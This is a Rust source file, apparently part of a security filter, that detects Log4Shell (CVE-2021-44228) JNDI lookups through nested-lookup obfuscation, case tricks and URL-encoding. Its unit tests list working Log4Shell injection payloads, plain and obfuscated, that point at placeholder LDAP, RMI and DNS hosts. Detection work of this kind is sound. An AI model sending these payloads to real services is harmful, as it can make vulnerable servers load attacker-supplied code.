//! Log4Shell (CVE-2021-44228) JNDI lookups, through the obfuscations scanners use:
//! nested lookups (`${${lower:j}ndi:`, `${${::-j}ndi:`, `${${env:X:-j}ndi:`,
//! `${${date:'j'}ndi:`), any letter case, and URL-encoding (once or twice).

use super::command::percent_decode;
use super::cx::contains_ci;

/// Nesting and length bounds: real payloads are short, hostile input must stay cheap.
const MAX_DEPTH: usize = 32;
const MAX_FRAME: usize = 256;

/// `text` holds a `${jndi:` lookup once its nested lookups are resolved.
pub(crate) fn has_jndi(text: &str) -> bool {
    if text.contains('$') && scan(text) {
        return true;
    }
    if !text.contains('%') || !(contains_ci(text, "%24") || contains_ci(text, "%25")) {
        return false;
    }
    let mut decoded = percent_decode(text);
    for _ in 0..2 {
        if scan(&decoded) {
            return true;
        }
        let again = percent_decode(&decoded);
        if again == decoded {
            return false;
        }
        decoded = again;
    }
    scan(&decoded)
}

/// One pass: every `${` opens a frame, every `}` closes one and hands the lookup's value
/// to the frame around it, as Log4j's substitution does (innermost first).
fn scan(text: &str) -> bool {
    let mut frames: Vec<String> = Vec::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '$' && chars.peek() == Some(&'{') {
            chars.next();
            if frames.len() < MAX_DEPTH {
                frames.push(String::new());
            }
            continue;
        }
        let Some(top) = frames.last_mut() else {
            continue;
        };
        if c != '}' {
            if top.len() < MAX_FRAME {
                top.push(c);
            }
            if is_jndi(top) {
                return true;
            }
            continue;
        }
        let inner = frames.pop().unwrap_or_default();
        if let Some(parent) = frames.last_mut() {
            parent.push_str(lookup_value(&inner));
            if is_jndi(parent) {
                return true;
            }
        }
    }
    false
}

fn is_jndi(frame: &str) -> bool {
    frame
        .get(..5)
        .is_some_and(|p| p.eq_ignore_ascii_case("jndi:"))
}

/// What a (non-JNDI) lookup resolves to, as far as hiding letters goes.
fn lookup_value(inner: &str) -> &str {
    let prefix = |p: &str| {
        inner
            .get(..p.len())
            .is_some_and(|h| h.eq_ignore_ascii_case(p))
    };
    if prefix("lower:") || prefix("upper:") {
        return inner.get(6..).unwrap_or("");
    }
    if let Some((_, default)) = inner.split_once(":-") {
        return default;
    }
    if prefix("date:") {
        return inner.get(5..).unwrap_or("").trim_matches('\'');
    }
    ""
}

#[cfg(test)]
mod tests {
    use super::has_jndi;

    #[test]
    fn plain_and_obfuscated_lookups() {
        for text in [
            "${jndi:ldap://198.51.100.1/a}",
            "${JnDi:rmi://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
            "${${date:'j'}ndi:dns://x}",
            "${${upper:j}ndi:ldap://x}",
            "/api?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
            "/api?q=%2524%257Bjndi%253Aldap%253A%252F%252Fx%257D",
            "${jndi:ldap://unterminated",
        ] {
            assert!(has_jndi(text), "{text}");
        }
    }

    #[test]
    fn ordinary_templates_are_not_lookups() {
        for text in [
            "${HOME}/bin",
            "echo ${PATH:-/usr/bin}",
            "jndi:ldap://x",
            "100%25 sure",
            "${lower:jndi}",
        ] {
            assert!(!has_jndi(text), "{text}");
        }
    }
}
